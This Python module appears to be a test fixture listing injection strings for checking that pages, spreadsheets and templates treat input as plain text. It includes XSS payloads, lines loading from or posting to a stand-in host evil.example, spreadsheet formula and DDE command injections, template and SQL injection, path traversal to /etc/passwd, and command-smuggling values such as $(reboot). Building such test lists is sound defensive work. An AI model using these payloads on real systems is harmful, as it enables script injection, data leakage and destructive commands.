"""Texts that do harm where a page, a spreadsheet or a template takes them for more than text."""

from __future__ import annotations

from itertools import product

_CALL = "window.pwned=1"
_TAGS = ("script", "svg", "img", "iframe", "object", "embed", "math", "style", "link", "meta", "base", "form", "video")
_EVENTS = ("onload", "onerror", "onclick", "onmouseover", "onfocus", "ontoggle", "onanimationstart", "onpointerenter")

_WRITTEN = (
    f"<script>{_CALL}</script>", f"</script><script>{_CALL}</script>", f"<ScRiPt>{_CALL}</sCrIpT>",
    "<script src=//evil.example/x.js></script>", f"<svg><script>{_CALL}</script></svg>",
    f"</title><script>{_CALL}</script>", f"</textarea><script>{_CALL}</script>", f"--><script>{_CALL}</script>",
    f"]]><script>{_CALL}</script>", f"\"><script>{_CALL}</script>", f"'><script>{_CALL}</script>",
    f"\" autofocus onfocus={_CALL} x=\"", f"' onmouseover='{_CALL}", f"javascript:{_CALL}", f"JaVaScRiPt:{_CALL}",
    f"[x](javascript:{_CALL})", f"![x](javascript:{_CALL})", f"<javascript:{_CALL}>",
    "[x](data:text/html,<script>1</script>)",
    "data:text/html;base64,PHNjcmlwdD4=", f"&lt;script&gt;{_CALL}&lt;/script&gt;", f"&#60;script&#62;{_CALL}",
    f"\\u003cscript\\u003e{_CALL}", f"%3Cscript%3E{_CALL}%3C/script%3E", f"<a href=\"javascript:{_CALL}\">x</a>",
    f"<img src=x onerror={_CALL}>", f"<img src=`x`onerror={_CALL}>", f"<svg/onload={_CALL}>", f"<body onload={_CALL}>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>", f"<details open ontoggle={_CALL}>x",
    "<style>@import'//evil.example/x.css'</style>", "<style>*{background:url(//evil.example/x)}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<base href=//evil.example/>", "<form action=//evil.example/><input name=q></form>", "<plaintext>", "<!--",
    "<![CDATA[",
    "{{ 7*7 }}", "{% for x in y %}", "{{ config }}", "{# x #}", "${7*7}", "<%= 7*7 %>", "#{7*7}", "{value}",
    "%(x)s", "%s%n",
    "=1+1", "=HYPERLINK(\"http://evil.example/\",\"x\")", "=cmd|' /C calc'!A0", "+1+1|cmd", "-1+1|cmd", "@SUM(A1:A9)",
    "=IMPORTXML(\"http://evil.example/\",\"//a\")", "=DDE(\"cmd\";\"/C calc\";\"x\")", "|calc",
    "../../etc/passwd", "..\\..\\windows", "/etc/passwd", "C:\\x", "file:///etc/passwd", "con", "nul.csv", "a/b/c",
    ".", "..x",
    "'; DROP TABLE x; --", "\" OR 1=1", "$(reboot)", "`reboot`", "; reboot", "a\u202eb", "a\u200bb", "a\u00adb",
    "İstanbul",
    "ﷺ" * 8, "😀" * 20, "x" * 300, "Ω≈ç√∫", "<", ">", "&", "\"", "'", "&amp;", "&nbsp;", "</", "<>", "<a", "a>b",
    "a<b>c",
)  # fmt: skip
_MADE = tuple(f"<{tag} {event}={_CALL}>" for tag, event in product(_TAGS[1:6], _EVENTS))

#: Each one different, in an order that stays.
TEXTS: tuple[str, ...] = tuple(dict.fromkeys([*_WRITTEN, *_MADE]))
